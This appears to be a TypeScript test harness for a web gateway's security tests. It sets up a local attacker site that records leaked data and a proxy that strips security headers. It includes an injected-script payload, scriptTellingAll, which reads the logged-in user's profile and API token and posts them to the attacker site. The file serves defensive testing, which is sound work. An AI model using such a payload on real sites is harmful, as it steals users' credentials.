import { once } from 'node:events'
import {
  createServer,
  type IncomingMessage,
  request as httpRequest,
  type RequestListener,
  type ServerResponse,
} from 'node:http'
import { text } from 'node:stream/consumers'
import { portOf } from '../server/testing/harness/port-of.ts'

type Site = { url: string; close: () => Promise<void> }

/** `localhost` is a different site from 127.0.0.1, where the tests' gateway listens. */
async function serve(host: 'localhost' | '127.0.0.1', listener: RequestListener): Promise<Site> {
  const server = createServer(listener).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    url: `http://${host}:${portOf(server)}`,
    close: async () => {
      server.close()
      server.closeAllConnections()
      await once(server, 'close')
    },
  }
}

export type HostileSite = Site & {
  show: (html: string) => string
  /** Texts posted to the site, in order. */
  leaks: string[]
}

/** An attacker's site, which also collects what its pages find out. */
export async function openHostileSite(): Promise<HostileSite> {
  const pages: string[] = []
  const leaks: string[] = []
  const answer = async (request: IncomingMessage, response: ServerResponse) => {
    const { pathname } = new URL(request.url ?? '', 'http://localhost')
    if (pathname === '/leak') leaks.push(await text(request))
    const html = pages[Number(pathname.slice(1))]
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html)
  }
  const site = await serve('localhost', (request, response) => void answer(request, response))
  return {
    ...site,
    leaks,
    show: (html) => `${site.url}/${pages.push(`<!doctype html><title>page</title>${html}`) - 1}`,
  }
}

/**
 * A script that a provider puts into its answer: it sends the site what the logged-in user may
 * read.
 */
export const scriptTellingAll = ({ url }: Site) =>
  '<script>document.title = `ran`; (async () => { ' +
  `const tell = (text) => fetch('${url}/leak', { method: 'POST', mode: 'no-cors', body: text }); ` +
  "await tell('ran in ' + window.origin); " +
  "await tell(await (await fetch('/api/user/self')).text()); " +
  "await tell(await (await fetch('/api/user/token')).text()) })()</script>"

const GUARDS = [
  'content-security-policy',
  'x-content-type-options',
  'cross-origin-resource-policy',
  'content-length',
]

/** Changes that the gate makes to relay requests and their answers. */
type Changes = {
  /** Removes the Fetch Metadata headers, as in an old browser. */
  isOldBrowser?: true
  /** Replaces the content type of answers. */
  type?: string
  /** Removes the headers that keep an answer from being used as a document. */
  isUnguarded?: true
}

export type Gate = Site & {
  /** Status codes of the relay's answers. */
  statuses: ReadonlySet<number>
}

/** A proxy in front of the gateway, on another port. */
export async function openGate(target: string, changes: Changes = {}): Promise<Gate> {
  const { isOldBrowser = false, isUnguarded = false, type } = changes
  const statuses = new Set<number>()
  const site = await serve('127.0.0.1', (request, response) => {
    const { method, url = '' } = request
    const isRelay = /^\/(?:v1|dashboard)\//.test(url)
    const sent = Object.entries(request.headers).filter(
      ([name]) => !(isRelay && isOldBrowser && name.startsWith('sec-fetch-')),
    )
    const passed = httpRequest(new URL(url, target), { method, headers: Object.fromEntries(sent) })
    passed.on('response', (answer) => {
      const { statusCode = 502, headers } = answer
      if (isRelay) statuses.add(statusCode)
      const given = Object.entries(headers).filter(
        ([name]) => !(isRelay && isUnguarded && GUARDS.includes(name)),
      )
      const typed = isRelay && type !== undefined ? { 'content-type': type } : {}
      response.writeHead(statusCode, { ...Object.fromEntries(given), ...typed })
      answer.pipe(response)
    })
    passed.on('error', () => response.destroy())
    request.pipe(passed)
  })
  return { ...site, statuses }
}
